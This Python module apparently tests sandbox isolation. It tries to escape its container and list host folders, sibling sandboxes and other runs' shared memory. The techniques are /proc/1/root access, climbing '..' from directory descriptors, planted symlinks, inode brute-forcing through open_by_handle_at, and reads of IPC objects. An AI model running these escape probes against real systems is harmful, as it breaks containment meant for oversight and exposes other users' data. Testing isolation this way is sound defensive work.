"""Tries to reach other runs, sibling sandboxes and the host's folders around its own."""

import ctypes

LIBC = ctypes.CDLL(None, use_errno=True)


def mounts():
    """What is mounted from where: place inside, and the path on its file system."""
    rows = [line.split() for line in read("/proc/self/mountinfo").decode().splitlines()]
    return [(row[4], row[3]) for row in rows]


def host_paths():
    """The host's folders that the mount table tells, and all above them."""
    found = []
    for _, source in mounts():
        while len(source) > 1:
            found.append(source)
            source = os.path.dirname(source)
    return sorted({*found, *HINTS.get("paths", [])})


def direct(prefix=""):
    """Those paths, as they are."""

    def action():
        loot = []
        for path in host_paths():
            try:
                names = os.listdir(prefix + path)
            except OSError:
                continue
            told = {"other-run", "events.jsonl", "cell.json", "private"}
            if told & set(names) or any(name.startswith("attest-") for name in names):
                loot.append(f"{prefix + path}: {names[:10]}")
        return loot

    return action


def parents():
    """Above every mount, by `..` from a descriptor."""
    loot = []
    for place in ("/home", "/tmp", "/home/data", "/home/code", "/run/driver", "/proc/self/cwd"):
        try:
            handle = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        for depth in range(1, 8):
            try:
                up = os.open("../" * depth, os.O_RDONLY | os.O_DIRECTORY, dir_fd=handle)
                names = os.listdir(up)
                os.close(up)
            except OSError:
                break
            if any(name in ("other-run", "private") or name.startswith("attest-") for name in names):
                loot.append(f"{place} + {depth}: {names[:10]}")
        os.close(handle)
    return loot


def by_links():
    """Links to the host's paths, followed by whoever follows them."""
    loot = []
    for number, path in enumerate(HINTS.get("paths", [])):
        name = f"link-{number}"
        if not os.path.islink(name):
            os.symlink(path, name)
        try:
            loot.append(str(os.listdir(name)[:5]))
        except OSError:
            pass
    return loot


def handles():
    """Files by their numbers on the file system, past every folder: open_by_handle_at."""

    class Handle(ctypes.Structure):
        _fields_ = [
            ("bytes", ctypes.c_uint),
            ("type", ctypes.c_int),
            ("inode", ctypes.c_uint),
            ("gen", ctypes.c_uint),
        ]

    for place in ("/home", "/tmp", "/home/data"):
        mount = os.open(place, os.O_RDONLY)
        for inode in (2, 11, *range(12, 64)):
            handle = Handle(8, 1, inode, 0)
            got = LIBC.open_by_handle_at(mount, ctypes.byref(handle), os.O_RDONLY)
            if got >= 0:
                return f"inode {inode} of the file system of {place}: {os.listdir(got)[:10]}"
        os.close(mount)
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def sockets_of_others():
    """Sandboxes have folders beside this one's: their names, through any file system that is shared."""
    own = {source for _, source in mounts()}
    loot = []
    for source in own:
        beside = os.path.dirname(source)
        if len(beside) > 1 and os.path.isdir(beside) and beside.startswith("/tmp/attest"):
            loot.append(f"{beside}: {os.listdir(beside)[:5]}")
    return loot


def shared_memory():
    """Objects of other runs in shared memory and message queues."""
    loot = []
    for place in ("/dev/shm", "/dev/mqueue"):
        if os.path.isdir(place):
            loot += [f"{place}/{name}" for name in os.listdir(place)]
    for kind in ("shm", "msg", "sem"):
        lines = read(f"/proc/sysvipc/{kind}").decode().splitlines()[1:]
        loot += lines
    return loot if ISOLATED else secrets("".join(loot).encode())


attempt("the host's paths as they are", direct())
if ISOLATED:
    attempt("the host's paths through process 1", direct("/proc/1/root"))
    attempt("above the mounts", parents)
    attempt("files by number", handles)
    attempt("folders of other sandboxes", sockets_of_others)
    attempt("shared memory and queues of others", shared_memory)
attempt("links to the host's paths", by_links)
